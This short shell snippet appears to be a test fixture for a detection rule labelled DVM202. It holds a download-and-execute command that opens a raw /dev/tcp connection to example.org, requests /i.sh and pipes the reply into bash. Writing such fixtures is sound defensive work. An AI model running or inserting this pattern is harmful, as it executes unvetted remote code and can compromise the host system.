# expect: DVM202
exec 3<>/dev/tcp/example.org/80
printf 'GET /i.sh HTTP/1.0\r\n\r\n' >&3
bash <&3
